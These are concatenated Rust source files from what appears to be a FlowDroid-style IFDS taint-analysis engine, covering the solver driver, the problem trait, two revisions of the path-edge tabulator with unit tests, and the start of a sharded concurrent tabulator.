        let handle = AbortHandle::with_deadline(std::time::Duration::ZERO);
        let done = AtomicU64::new(0);
        drive(
            &sched,
            2,
            4,
            Some(&handle),
            |_| Counter { pending: Vec::new() },
            |job| sched.shard_for(job) % 4,
            |_, _| {
                done.fetch_add(1, Ordering::Relaxed);
                true
            },
        );
        // The pre-expired deadline is seen on the first claim of each
        // worker: nothing is processed.
        assert_eq!(done.load(Ordering::Relaxed), 0);
        assert_eq!(handle.reason(), Some(crate::AbortReason::Deadline));
    }

    #[test]
    fn cancel_mid_run_stops_within_check_interval() {
        let sched: WorkStealScheduler<u64> = WorkStealScheduler::new(4, 2);
        for i in 0..100_000u64 {
            sched.push(sched.shard_for(&i), i);
        }
        let handle = AbortHandle::new();
        let done = AtomicU64::new(0);
        drive(
            &sched,
            1,
            4,
            Some(&handle),
            |_| Counter { pending: Vec::new() },
            |job| sched.shard_for(job) % 4,
            |_, _| {
                if done.fetch_add(1, Ordering::Relaxed) == 10 {
                    handle.cancel();
                }
                true
            },
        );
        // The single worker notices the cancel within one abort-check
        // interval plus one claimed batch.
        assert!(done.load(Ordering::Relaxed) < 10 + ABORT_CHECK_EVERY as u64 + 8);
        assert_eq!(handle.reason(), Some(crate::AbortReason::Cancelled));
    }
}
