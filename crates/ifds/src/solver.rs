//! The one-shot IFDS solver driver.

use crate::problem::IfdsProblem;
use crate::tabulator::{PathEdge, Tabulator};
use flowdroid_callgraph::Icfg;
use flowdroid_ir::StmtRef;
use std::collections::HashMap;
use std::hash::Hash;

/// The result of an IFDS run: facts holding before each reached
/// statement.
#[derive(Debug)]
pub struct IfdsResults<F> {
    facts: HashMap<StmtRef, Vec<F>>,
    propagation_count: u64,
}

impl<F: Clone + Eq + Hash> IfdsResults<F> {
    /// Assembles results from raw parts (used by the parallel solver).
    pub(crate) fn from_parts(facts: HashMap<StmtRef, Vec<F>>, propagation_count: u64) -> Self {
        IfdsResults { facts, propagation_count }
    }

    /// Facts holding before `n` (empty if `n` was never reached).
    pub fn facts_at(&self, n: StmtRef) -> &[F] {
        self.facts.get(&n).map_or(&[], Vec::as_slice)
    }

    /// Returns `true` if fact `d` holds before `n`.
    pub fn holds_at(&self, n: StmtRef, d: &F) -> bool {
        self.facts_at(n).contains(d)
    }

    /// All reached statements.
    pub fn reached_stmts(&self) -> impl Iterator<Item = &StmtRef> {
        self.facts.keys()
    }

    /// Number of path-edge propagations performed by the solve.
    pub fn propagation_count(&self) -> u64 {
        self.propagation_count
    }
}

/// Drives a [`Tabulator`] to a fixed point for a given [`IfdsProblem`].
///
/// # Example
///
/// See the crate-level integration tests for complete problems; the
/// shape is:
///
/// ```ignore
/// let solver = Solver::new(&icfg, &problem);
/// let results = solver.solve();
/// assert!(results.holds_at(sink_stmt, &fact));
/// ```
#[derive(Debug)]
pub struct Solver<'a, P: IfdsProblem> {
    icfg: &'a Icfg<'a>,
    problem: &'a P,
}

impl<'a, P: IfdsProblem> Solver<'a, P> {
    /// Creates a solver over `icfg` for `problem`.
    pub fn new(icfg: &'a Icfg<'a>, problem: &'a P) -> Self {
        Self { icfg, problem }
    }

    /// Runs the tabulation algorithm to a fixed point.
    pub fn solve(&self) -> IfdsResults<P::Fact> {
        let mut tab: Tabulator<P::Fact> = Tabulator::new();
        for (n, d) in self.problem.initial_seeds() {
            tab.propagate(d.clone(), n, d);
        }
        while let Some(edge) = tab.pop() {
            self.process(&mut tab, edge);
        }
        let mut facts: HashMap<StmtRef, Vec<P::Fact>> = HashMap::new();
        for (n, d) in tab.reached() {
            facts.entry(n).or_default().push(d);
        }
        IfdsResults { facts, propagation_count: tab.propagation_count() }
    }

    fn process(&self, tab: &mut Tabulator<P::Fact>, edge: PathEdge<P::Fact>) {
        let PathEdge { d1, n, d2 } = edge;
        let icfg = self.icfg;
        let is_call = icfg.is_call(n) && !icfg.callees_of_call(n).is_empty();
        if is_call {
            // Case 1: call statement.
            for &callee in icfg.callees_of_call(n) {
                let starts = icfg.start_points_of(callee);
                for d3 in self.problem.call_flow(n, callee, &d2) {
                    tab.add_incoming(callee, d3.clone(), n, d2.clone());
                    for &sp in &starts {
                        tab.propagate(d3.clone(), sp, d3.clone());
                    }
                    // Apply existing end summaries for this context.
                    for (exit, d4) in tab.summaries_for(callee, &d3) {
                        for ret_site in icfg.return_sites_of_call(n) {
                            for d5 in
                                self.problem.return_flow(n, callee, exit, ret_site, &d4)
                            {
                                tab.propagate(d1.clone(), ret_site, d5);
                            }
                        }
                    }
                }
            }
            for ret_site in icfg.return_sites_of_call(n) {
                for d3 in self.problem.call_to_return_flow(n, ret_site, &d2) {
                    tab.propagate(d1.clone(), ret_site, d3);
                }
            }
        } else if icfg.is_exit(n) {
            // Case 2: exit statement — install summary, return into all
            // recorded calling contexts.
            let callee = icfg.method_of(n);
            tab.install_summary(callee, d1.clone(), n, d2.clone());
            for (call_site, d4) in tab.incoming_for(callee, &d1) {
                for ret_site in icfg.return_sites_of_call(call_site) {
                    for d5 in self.problem.return_flow(call_site, callee, n, ret_site, &d2) {
                        for d3 in tab.d1s_at(call_site, &d4) {
                            tab.propagate(d3, ret_site, d5.clone());
                        }
                    }
                }
            }
        } else {
            // Case 3: normal statement (including calls without
            // body-having callees, which flow via call-to-return only).
            if icfg.is_call(n) {
                for ret_site in icfg.return_sites_of_call(n) {
                    for d3 in self.problem.call_to_return_flow(n, ret_site, &d2) {
                        tab.propagate(d1.clone(), ret_site, d3);
                    }
                }
            } else {
                for succ in icfg.succs_of(n) {
                    for d3 in self.problem.normal_flow(n, succ, &d2) {
                        tab.propagate(d1.clone(), succ, d3);
                    }
                }
            }
        }
    }
}
