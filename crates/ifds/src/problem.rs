//! The problem interface for the generic IFDS solver.

use flowdroid_ir::{MethodId, StmtRef};
use std::fmt::Debug;
use std::hash::Hash;

/// An inter-procedural finite distributive subset problem.
///
/// Facts are the nodes of the exploded supergraph; the four flow
/// functions are the edges. Every flow function must propagate the
/// *zero* fact to itself (identity) — fact generation happens by
/// returning additional facts from the zero fact.
///
/// The solver computes, for every reachable statement `n`, the set of
/// facts that hold *before* `n` executes.
pub trait IfdsProblem {
    /// The data-flow fact domain.
    type Fact: Clone + Eq + Hash + Debug;

    /// The tautological zero fact.
    fn zero(&self) -> Self::Fact;

    /// Statements at which to seed the analysis (typically the entry
    /// point's first statement, with the zero fact).
    fn initial_seeds(&self) -> Vec<(StmtRef, Self::Fact)>;

    /// Flow within a method: from `n` (where `d` holds) to its
    /// intraprocedural successor `succ`.
    fn normal_flow(&self, n: StmtRef, succ: StmtRef, d: &Self::Fact) -> Vec<Self::Fact>;

    /// Flow from a call site into a callee: maps `d` (before the call)
    /// to facts at the callee's start point.
    fn call_flow(&self, call: StmtRef, callee: MethodId, d: &Self::Fact) -> Vec<Self::Fact>;

    /// Flow from a callee's exit back to a return site of `call`.
    /// `d` holds before the exit statement `exit`.
    fn return_flow(
        &self,
        call: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        return_site: StmtRef,
        d: &Self::Fact,
    ) -> Vec<Self::Fact>;

    /// Flow that bypasses the call on the caller's side (propagates
    /// facts not passed to the callee; generates facts at sources).
    fn call_to_return_flow(
        &self,
        call: StmtRef,
        return_site: StmtRef,
        d: &Self::Fact,
    ) -> Vec<Self::Fact>;
}
