//! The path-edge / summary / incoming-set state machine underlying the
//! IFDS tabulation algorithm.

use crate::factset::{FactRel, FactSetDomain, HashSets, PairSet, TableStats};
use flowdroid_ir::{FxHashMap, MethodId, StmtRef};
use std::collections::VecDeque;
use std::hash::Hash;

/// A path edge `⟨sp, d1⟩ → ⟨n, d2⟩`.
///
/// The start point `sp` is implied by `n`'s method (methods have a
/// single entry), so only the source fact `d1`, the target statement `n`
/// and the target fact `d2` are stored — the same representation Heros
/// uses.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub struct PathEdge<F> {
    /// Fact at the method entry (`d1`).
    pub d1: F,
    /// Target statement (`n`).
    pub n: StmtRef,
    /// Fact holding before `n` (`d2`).
    pub d2: F,
}

/// Worklist, path-edge table, end summaries and incoming sets for one
/// IFDS solver instance.
///
/// The table layout is chosen by the [`FactSetDomain`] parameter `S`:
/// nested hash maps ([`HashSets`], the default, any hashable fact) or
/// fact-id-indexed bitset rows ([`crate::BitsetSets`], interned ids).
/// Outer keys (statement, callee) stay Fx-hashed either way; `S` only
/// decides the inner `fact → …` sets — the hot part.
///
/// [`crate::Solver`] drives a `Tabulator` automatically; the FlowDroid
/// bidirectional analysis drives two of them manually so it can hand
/// edges from one to the other (context injection).
pub struct Tabulator<F, S: FactSetDomain<F> = HashSets> {
    worklist: VecDeque<PathEdge<F>>,
    /// n → d2 → set of d1 for all recorded path edges.
    edges: FxHashMap<StmtRef, S::Rel>,
    /// callee → d1-at-entry → exit facts (exit stmt, d2-at-exit).
    end_summaries: FxHashMap<MethodId, FxHashMap<F, S::Pairs>>,
    /// callee → d3-at-entry → call contexts (call site, d2-at-call).
    incoming: FxHashMap<MethodId, FxHashMap<F, S::Pairs>>,
    /// Number of path edges ever propagated (for statistics).
    propagation_count: u64,
}

impl<F: Clone + Eq + Hash, S: FactSetDomain<F>> Default for Tabulator<F, S> {
    fn default() -> Self {
        Self::new()
    }
}

impl<F: Clone + Eq + Hash, S: FactSetDomain<F>> Tabulator<F, S> {
    /// Creates an empty tabulator.
    pub fn new() -> Self {
        Self {
            worklist: VecDeque::new(),
            edges: FxHashMap::default(),
            end_summaries: FxHashMap::default(),
            incoming: FxHashMap::default(),
            propagation_count: 0,
        }
    }

    /// Records the path edge `⟨·, d1⟩ → ⟨n, d2⟩` and schedules it if it
    /// is new. Returns `true` if the edge was new.
    pub fn propagate(&mut self, d1: F, n: StmtRef, d2: F) -> bool {
        let inserted = self.edges.entry(n).or_default().insert(&d2, &d1);
        if inserted {
            self.propagation_count += 1;
            self.worklist.push_back(PathEdge { d1, n, d2 });
        }
        inserted
    }

    /// Pops the next edge to process.
    pub fn pop(&mut self) -> Option<PathEdge<F>> {
        self.worklist.pop_front()
    }

    /// Returns `true` if the worklist is empty.
    pub fn is_idle(&self) -> bool {
        self.worklist.is_empty()
    }

    /// All source facts `d1` of path edges targeting `(n, d2)`. The
    /// lookup borrows `d2`; only the returned facts are materialized.
    pub fn d1s_at(&self, n: StmtRef, d2: &F) -> Vec<F> {
        self.edges.get(&n).map(|rel| rel.d1s(d2)).unwrap_or_default()
    }

    /// Returns `true` if the edge `⟨·, d1⟩ → ⟨n, d2⟩` has been recorded.
    pub fn has_edge(&self, d1: &F, n: StmtRef, d2: &F) -> bool {
        self.edges.get(&n).is_some_and(|rel| rel.contains(d2, d1))
    }

    /// Records a call context: the callee was entered with `d3` from
    /// `call_site` where `d2` held. Returns `true` if new.
    pub fn add_incoming(&mut self, callee: MethodId, d3: F, call_site: StmtRef, d2: F) -> bool {
        self.incoming.entry(callee).or_default().entry(d3).or_default().insert(call_site, &d2)
    }

    /// The call contexts recorded for `(callee, d3)`.
    pub fn incoming_for(&self, callee: MethodId, d3: &F) -> Vec<(StmtRef, F)> {
        self.incoming
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d3))
            .map(|s| s.to_vec())
            .unwrap_or_default()
    }

    /// Injects call contexts wholesale (used for cross-solver context
    /// injection in the bidirectional analysis).
    pub fn inject_incoming(&mut self, callee: MethodId, d3: F, contexts: Vec<(StmtRef, F)>) {
        for (site, d2) in contexts {
            self.add_incoming(callee, d3.clone(), site, d2);
        }
    }

    /// Installs the end summary `⟨callee, d1⟩ → (exit, d2)`. Returns
    /// `true` if new.
    pub fn install_summary(&mut self, callee: MethodId, d1: F, exit: StmtRef, d2: F) -> bool {
        self.end_summaries.entry(callee).or_default().entry(d1).or_default().insert(exit, &d2)
    }

    /// The end summaries recorded for `(callee, d1)`.
    pub fn summaries_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        self.end_summaries
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d1))
            .map(|s| s.to_vec())
            .unwrap_or_default()
    }

    /// Snapshots every end summary as `(callee, entry fact, exits)`
    /// (used to persist summaries at the fixpoint).
    pub fn all_summaries(&self) -> Vec<(MethodId, F, Vec<(StmtRef, F)>)> {
        let mut out = Vec::new();
        for (m, by_fact) in &self.end_summaries {
            for (d1, exits) in by_fact {
                out.push((*m, d1.clone(), exits.to_vec()));
            }
        }
        out
    }

    /// All facts recorded as holding before `n` (ignoring source facts).
    pub fn facts_at(&self, n: StmtRef) -> Vec<F> {
        self.edges.get(&n).map(|rel| rel.keys()).unwrap_or_default()
    }

    /// All `(n, d2)` pairs with at least one path edge.
    pub fn reached(&self) -> Vec<(StmtRef, F)> {
        let mut out = Vec::new();
        for (n, rel) in &self.edges {
            out.extend(rel.keys().into_iter().map(|d| (*n, d)));
        }
        out
    }

    /// Number of `propagate` calls that inserted a new edge.
    pub fn propagation_count(&self) -> u64 {
        self.propagation_count
    }

    /// Density counters across the edge, incoming and summary tables
    /// (all zeros on the hash-map representation).
    pub fn table_stats(&self) -> TableStats {
        let mut stats = TableStats::default();
        for rel in self.edges.values() {
            rel.collect_stats(&mut stats);
        }
        for by_fact in self.end_summaries.values().chain(self.incoming.values()) {
            for pairs in by_fact.values() {
                pairs.collect_stats(&mut stats);
            }
        }
        stats
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::factset::BitsetSets;
    use flowdroid_ir::MethodId;

    fn sr(i: usize) -> StmtRef {
        StmtRef::new(MethodId::from_index(0), i)
    }

    #[test]
    fn propagate_dedupes() {
        let mut t: Tabulator<u32> = Tabulator::new();
        assert!(t.propagate(0, sr(1), 7));
        assert!(!t.propagate(0, sr(1), 7));
        assert!(t.propagate(1, sr(1), 7));
        assert_eq!(t.propagation_count(), 2);
        let mut d1s = t.d1s_at(sr(1), &7);
        d1s.sort_unstable();
        assert_eq!(d1s, vec![0, 1]);
        assert!(t.pop().is_some());
        assert!(t.pop().is_some());
        assert!(t.pop().is_none());
        assert!(t.is_idle());
    }

    #[test]
    fn summaries_and_incoming_dedupe() {
        let m = MethodId::from_index(3);
        let mut t: Tabulator<u32> = Tabulator::new();
        assert!(t.install_summary(m, 1, sr(9), 2));
        assert!(!t.install_summary(m, 1, sr(9), 2));
        assert_eq!(t.summaries_for(m, &1), vec![(sr(9), 2)]);
        assert!(t.summaries_for(m, &0).is_empty());

        assert!(t.add_incoming(m, 1, sr(4), 5));
        assert!(!t.add_incoming(m, 1, sr(4), 5));
        assert_eq!(t.incoming_for(m, &1), vec![(sr(4), 5)]);
    }

    #[test]
    fn facts_at_collects_all() {
        let mut t: Tabulator<u32> = Tabulator::new();
        t.propagate(0, sr(2), 5);
        t.propagate(0, sr(2), 6);
        t.propagate(0, sr(3), 7);
        let mut facts = t.facts_at(sr(2));
        facts.sort_unstable();
        assert_eq!(facts, vec![5, 6]);
    }

    #[test]
    fn has_edge_borrows_and_matches() {
        let mut t: Tabulator<u32> = Tabulator::new();
        t.propagate(0, sr(2), 5);
        assert!(t.has_edge(&0, sr(2), &5));
        assert!(!t.has_edge(&1, sr(2), &5));
        assert!(!t.has_edge(&0, sr(3), &5));
        let mut reached = t.reached();
        reached.sort();
        assert_eq!(reached, vec![(sr(2), 5)]);
    }

    /// The bitset-backed tabulator behaves identically to the hash-map
    /// one over the full API surface.
    #[test]
    fn bitset_tabulator_matches_hash_tabulator() {
        let m = MethodId::from_index(2);
        let mut h: Tabulator<u32> = Tabulator::new();
        let mut b: Tabulator<u32, BitsetSets> = Tabulator::new();
        for (d1, n, d2) in [(0, 1, 7), (0, 1, 7), (1, 1, 7), (0, 2, 3), (2, 1, 9)] {
            assert_eq!(h.propagate(d1, sr(n), d2), b.propagate(d1, sr(n), d2));
        }
        assert_eq!(h.propagation_count(), b.propagation_count());
        for (n, d2) in [(1, 7), (1, 9), (2, 3), (3, 0)] {
            let mut hd = h.d1s_at(sr(n), &d2);
            hd.sort_unstable();
            assert_eq!(hd, b.d1s_at(sr(n), &d2));
        }
        assert_eq!(h.has_edge(&1, sr(1), &7), b.has_edge(&1, sr(1), &7));
        assert_eq!(h.has_edge(&1, sr(1), &8), b.has_edge(&1, sr(1), &8));
        let (mut hf, mut bf) = (h.facts_at(sr(1)), b.facts_at(sr(1)));
        hf.sort_unstable();
        bf.sort_unstable();
        assert_eq!(hf, bf);
        let (mut hr, mut br) = (h.reached(), b.reached());
        hr.sort();
        br.sort();
        assert_eq!(hr, br);

        assert_eq!(h.add_incoming(m, 1, sr(4), 5), b.add_incoming(m, 1, sr(4), 5));
        assert_eq!(h.add_incoming(m, 1, sr(4), 5), b.add_incoming(m, 1, sr(4), 5));
        assert_eq!(h.install_summary(m, 1, sr(9), 2), b.install_summary(m, 1, sr(9), 2));
        let mut hi = h.incoming_for(m, &1);
        hi.sort();
        assert_eq!(hi, b.incoming_for(m, &1));
        let mut hs = h.summaries_for(m, &1);
        hs.sort();
        assert_eq!(hs, b.summaries_for(m, &1));

        assert!(!h.table_stats().any());
        let bstats = b.table_stats();
        assert!(bstats.any());
        assert_eq!(bstats.dense_rows, 0);
    }
}
