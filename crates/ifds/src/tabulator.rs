//! The path-edge / summary / incoming-set state machine underlying the
//! IFDS tabulation algorithm.

use flowdroid_ir::{FxHashMap, FxHashSet, MethodId, StmtRef};
use std::collections::VecDeque;
use std::hash::Hash;

/// A path edge `⟨sp, d1⟩ → ⟨n, d2⟩`.
///
/// The start point `sp` is implied by `n`'s method (methods have a
/// single entry), so only the source fact `d1`, the target statement `n`
/// and the target fact `d2` are stored — the same representation Heros
/// uses.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub struct PathEdge<F> {
    /// Fact at the method entry (`d1`).
    pub d1: F,
    /// Target statement (`n`).
    pub n: StmtRef,
    /// Fact holding before `n` (`d2`).
    pub d2: F,
}

/// Worklist, path-edge table, end summaries and incoming sets for one
/// IFDS solver instance.
///
/// All tables are nested maps (`stmt → fact → …`) hashed with the Fx
/// hasher, so lookups borrow their key parts instead of cloning facts
/// into tuple keys, and the per-operation hash cost stays proportional
/// to the small outer key.
///
/// [`crate::Solver`] drives a `Tabulator` automatically; the FlowDroid
/// bidirectional analysis drives two of them manually so it can hand
/// edges from one to the other (context injection).
#[derive(Debug)]
pub struct Tabulator<F> {
    worklist: VecDeque<PathEdge<F>>,
    /// n → d2 → set of d1 for all recorded path edges.
    edges: FxHashMap<StmtRef, FxHashMap<F, FxHashSet<F>>>,
    /// callee → d1-at-entry → exit facts (exit stmt, d2-at-exit).
    end_summaries: FxHashMap<MethodId, FxHashMap<F, Vec<(StmtRef, F)>>>,
    /// callee → d3-at-entry → call contexts (call site, d2-at-call).
    incoming: FxHashMap<MethodId, FxHashMap<F, Vec<(StmtRef, F)>>>,
    /// Number of path edges ever propagated (for statistics).
    propagation_count: u64,
}

impl<F: Clone + Eq + Hash> Default for Tabulator<F> {
    fn default() -> Self {
        Self::new()
    }
}

impl<F: Clone + Eq + Hash> Tabulator<F> {
    /// Creates an empty tabulator.
    pub fn new() -> Self {
        Self {
            worklist: VecDeque::new(),
            edges: FxHashMap::default(),
            end_summaries: FxHashMap::default(),
            incoming: FxHashMap::default(),
            propagation_count: 0,
        }
    }

    /// Records the path edge `⟨·, d1⟩ → ⟨n, d2⟩` and schedules it if it
    /// is new. Returns `true` if the edge was new.
    pub fn propagate(&mut self, d1: F, n: StmtRef, d2: F) -> bool {
        let inserted = self
            .edges
            .entry(n)
            .or_default()
            .entry(d2.clone())
            .or_default()
            .insert(d1.clone());
        if inserted {
            self.propagation_count += 1;
            self.worklist.push_back(PathEdge { d1, n, d2 });
        }
        inserted
    }

    /// Pops the next edge to process.
    pub fn pop(&mut self) -> Option<PathEdge<F>> {
        self.worklist.pop_front()
    }

    /// Returns `true` if the worklist is empty.
    pub fn is_idle(&self) -> bool {
        self.worklist.is_empty()
    }

    /// All source facts `d1` of path edges targeting `(n, d2)`. The
    /// lookup borrows `d2`; only the returned facts are cloned.
    pub fn d1s_at(&self, n: StmtRef, d2: &F) -> Vec<F> {
        self.edges
            .get(&n)
            .and_then(|by_fact| by_fact.get(d2))
            .map(|s| s.iter().cloned().collect())
            .unwrap_or_default()
    }

    /// Returns `true` if the edge `⟨·, d1⟩ → ⟨n, d2⟩` has been recorded.
    pub fn has_edge(&self, d1: &F, n: StmtRef, d2: &F) -> bool {
        self.edges
            .get(&n)
            .and_then(|by_fact| by_fact.get(d2))
            .is_some_and(|s| s.contains(d1))
    }

    /// Records a call context: the callee was entered with `d3` from
    /// `call_site` where `d2` held. Returns `true` if new.
    pub fn add_incoming(&mut self, callee: MethodId, d3: F, call_site: StmtRef, d2: F) -> bool {
        let v = self.incoming.entry(callee).or_default().entry(d3).or_default();
        let entry = (call_site, d2);
        if v.contains(&entry) {
            false
        } else {
            v.push(entry);
            true
        }
    }

    /// The call contexts recorded for `(callee, d3)`.
    pub fn incoming_for(&self, callee: MethodId, d3: &F) -> Vec<(StmtRef, F)> {
        self.incoming
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d3))
            .cloned()
            .unwrap_or_default()
    }

    /// Injects call contexts wholesale (used for cross-solver context
    /// injection in the bidirectional analysis).
    pub fn inject_incoming(&mut self, callee: MethodId, d3: F, contexts: Vec<(StmtRef, F)>) {
        for (site, d2) in contexts {
            self.add_incoming(callee, d3.clone(), site, d2);
        }
    }

    /// Installs the end summary `⟨callee, d1⟩ → (exit, d2)`. Returns
    /// `true` if new.
    pub fn install_summary(&mut self, callee: MethodId, d1: F, exit: StmtRef, d2: F) -> bool {
        let v = self.end_summaries.entry(callee).or_default().entry(d1).or_default();
        let entry = (exit, d2);
        if v.contains(&entry) {
            false
        } else {
            v.push(entry);
            true
        }
    }

    /// The end summaries recorded for `(callee, d1)`.
    pub fn summaries_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        self.end_summaries
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d1))
            .cloned()
            .unwrap_or_default()
    }

    /// Snapshots every end summary as `(callee, entry fact, exits)`
    /// (used to persist summaries at the fixpoint).
    pub fn all_summaries(&self) -> Vec<(MethodId, F, Vec<(StmtRef, F)>)> {
        let mut out = Vec::new();
        for (m, by_fact) in &self.end_summaries {
            for (d1, exits) in by_fact {
                out.push((*m, d1.clone(), exits.clone()));
            }
        }
        out
    }

    /// All facts recorded as holding before `n` (ignoring source facts).
    pub fn facts_at(&self, n: StmtRef) -> Vec<F> {
        self.edges
            .get(&n)
            .map(|by_fact| by_fact.keys().cloned().collect())
            .unwrap_or_default()
    }

    /// Iterates over all `(n, d2)` pairs with at least one path edge.
    pub fn reached(&self) -> impl Iterator<Item = (&StmtRef, &F)> {
        self.edges.iter().flat_map(|(n, by_fact)| by_fact.keys().map(move |d| (n, d)))
    }

    /// Number of `propagate` calls that inserted a new edge.
    pub fn propagation_count(&self) -> u64 {
        self.propagation_count
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::MethodId;

    fn sr(i: usize) -> StmtRef {
        StmtRef::new(MethodId::from_index(0), i)
    }

    #[test]
    fn propagate_dedupes() {
        let mut t: Tabulator<u32> = Tabulator::new();
        assert!(t.propagate(0, sr(1), 7));
        assert!(!t.propagate(0, sr(1), 7));
        assert!(t.propagate(1, sr(1), 7));
        assert_eq!(t.propagation_count(), 2);
        let mut d1s = t.d1s_at(sr(1), &7);
        d1s.sort_unstable();
        assert_eq!(d1s, vec![0, 1]);
        assert!(t.pop().is_some());
        assert!(t.pop().is_some());
        assert!(t.pop().is_none());
        assert!(t.is_idle());
    }

    #[test]
    fn summaries_and_incoming_dedupe() {
        let m = MethodId::from_index(3);
        let mut t: Tabulator<u32> = Tabulator::new();
        assert!(t.install_summary(m, 1, sr(9), 2));
        assert!(!t.install_summary(m, 1, sr(9), 2));
        assert_eq!(t.summaries_for(m, &1), vec![(sr(9), 2)]);
        assert!(t.summaries_for(m, &0).is_empty());

        assert!(t.add_incoming(m, 1, sr(4), 5));
        assert!(!t.add_incoming(m, 1, sr(4), 5));
        assert_eq!(t.incoming_for(m, &1), vec![(sr(4), 5)]);
    }

    #[test]
    fn facts_at_collects_all() {
        let mut t: Tabulator<u32> = Tabulator::new();
        t.propagate(0, sr(2), 5);
        t.propagate(0, sr(2), 6);
        t.propagate(0, sr(3), 7);
        let mut facts = t.facts_at(sr(2));
        facts.sort_unstable();
        assert_eq!(facts, vec![5, 6]);
    }

    #[test]
    fn has_edge_borrows_and_matches() {
        let mut t: Tabulator<u32> = Tabulator::new();
        t.propagate(0, sr(2), 5);
        assert!(t.has_edge(&0, sr(2), &5));
        assert!(!t.has_edge(&1, sr(2), &5));
        assert!(!t.has_edge(&0, sr(3), &5));
        let mut reached: Vec<(StmtRef, u32)> = t.reached().map(|(n, d)| (*n, *d)).collect();
        reached.sort();
        assert_eq!(reached, vec![(sr(2), 5)]);
    }
}
