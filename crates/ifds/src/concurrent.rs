//! The concurrent counterpart of [`Tabulator`](crate::Tabulator):
//! path-edge, end-summary and incoming tables behind independently
//! locked shards, usable from many worker threads.
//!
//! Extracted from the parallel IFDS solver so the bidirectional taint
//! engine can drive two of them (forward + backward) over the same
//! work-stealing scheduler. Shards are addressed by the Fx hash of the
//! outer key (statement for edges, callee for summaries/incoming);
//! workers touching different statements or callees never contend.
//!
//! The table representation is chosen by a [`ConcurrentKeyDomain`]:
//! [`IdentityKeys`] stores facts as-is in nested hash maps (any
//! hashable fact), while a fact-interning domain (e.g. the taint
//! engine's shared interner) maps facts to dense ids at the table
//! boundary and stores bitset rows instead. The public API always
//! speaks facts; keying is an internal representation choice, so the
//! solver code is identical for both.
//!
//! The cross-table handshake discipline (register your own half, then
//! read the other's) works across threads because each shard is a
//! mutex: a release on the incoming shard followed by an acquire on the
//! summary shard orders the accesses such that of two racing
//! (call-side, exit-side) updates at least one side observes the other.

use crate::factset::{FactRel, FactSetDomain, HashSets, PairSet, TableStats};
use flowdroid_ir::{fxhash64, FxHashMap, MethodId, StmtRef};
use std::collections::HashMap;
use std::hash::Hash;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

/// Number of independently locked shards per table (power of two).
const SHARD_COUNT: usize = 16;

/// Maps solver facts to the keys actually stored in the concurrent
/// tables, and picks the table representation for those keys.
///
/// `key` may intern (allocate an id for a first-seen fact) behind
/// interior mutability; it is called under no table lock. Key
/// assignment may race across threads — correctness only requires the
/// fact ↔ key mapping to be a bijection within one domain instance,
/// not any particular id order.
pub trait ConcurrentKeyDomain<F>: Sync {
    /// The stored key type.
    type Key: Clone + Eq + Hash + Send;
    /// Table representation for the stored keys (`Send` tables, so the
    /// shards can be locked from any worker thread).
    type Sets: FactSetDomain<Self::Key, Rel: Send, Pairs: Send>;
    /// The key for a fact (interning it on first sight).
    fn key(&self, f: &F) -> Self::Key;
    /// The fact a stored key denotes.
    fn fact(&self, k: &Self::Key) -> F;
    /// `(distinct facts, distinct access paths)` interned so far, when
    /// the domain tracks them.
    fn stats(&self) -> Option<(usize, usize)> {
        None
    }
    /// Fact interns whose access path was widened to the length bound,
    /// when the domain widens.
    fn widened_count(&self) -> u64 {
        0
    }
}

/// The identity domain: facts are their own keys, tables are nested
/// hash maps. The only choice for non-interned fact types.
#[derive(Clone, Copy, Debug, Default)]
pub struct IdentityKeys;

impl<F: Clone + Eq + Hash + Send + Sync> ConcurrentKeyDomain<F> for IdentityKeys {
    type Key = F;
    type Sets = HashSets;

    fn key(&self, f: &F) -> F {
        f.clone()
    }

    fn fact(&self, k: &F) -> F {
        k.clone()
    }
}

type Rel<F, D> =
    <<D as ConcurrentKeyDomain<F>>::Sets as FactSetDomain<<D as ConcurrentKeyDomain<F>>::Key>>::Rel;
type Pairs<F, D> =
    <<D as ConcurrentKeyDomain<F>>::Sets as FactSetDomain<<D as ConcurrentKeyDomain<F>>::Key>>::Pairs;

/// `callee → key → (statement, key)` pairs, one shard's worth.
type MethodFactMap<F, D> =
    FxHashMap<MethodId, FxHashMap<<D as ConcurrentKeyDomain<F>>::Key, Pairs<F, D>>>;

/// A table split into independently locked shards, addressed by the Fx
/// hash of a chosen outer key.
struct Shards<T> {
    shards: Vec<Mutex<T>>,
}

impl<T: Default> Shards<T> {
    fn new() -> Self {
        Shards { shards: (0..SHARD_COUNT).map(|_| Mutex::new(T::default())).collect() }
    }

    /// The shard holding `key`'s entries.
    fn for_key<K: Hash>(&self, key: &K) -> &Mutex<T> {
        debug_assert!(self.shards.len().is_power_of_two());
        let h = fxhash64(key) as usize;
        // Fx mixes the low bits last; take high bits for the index.
        &self.shards[(h >> (64 - SHARD_COUNT.trailing_zeros())) & (self.shards.len() - 1)]
    }
}

/// Sharded path-edge / end-summary / incoming tables for one direction
/// of a parallel tabulation.
pub struct ConcurrentTabulator<F, D: ConcurrentKeyDomain<F> = IdentityKeys> {
    dom: D,
    /// n → d2 → d1 set, sharded by n.
    edges: Shards<FxHashMap<StmtRef, Rel<F, D>>>,
    /// callee → d1 → exit facts, sharded by callee.
    summaries: Shards<MethodFactMap<F, D>>,
    /// callee → d3 → call contexts, sharded by callee.
    incoming: Shards<MethodFactMap<F, D>>,
    propagations: AtomicU64,
}

impl<F: Clone + Eq + Hash, D: ConcurrentKeyDomain<F> + Default> Default
    for ConcurrentTabulator<F, D>
{
    fn default() -> Self {
        Self::new()
    }
}

impl<F: Clone + Eq + Hash, D: ConcurrentKeyDomain<F> + Default> ConcurrentTabulator<F, D> {
    /// Creates empty tables with a default key domain.
    pub fn new() -> Self {
        Self::with_domain(D::default())
    }
}

impl<F: Clone + Eq + Hash, D: ConcurrentKeyDomain<F>> ConcurrentTabulator<F, D> {
    /// Creates empty tables keyed through `dom`.
    pub fn with_domain(dom: D) -> Self {
        ConcurrentTabulator {
            dom,
            edges: Shards::new(),
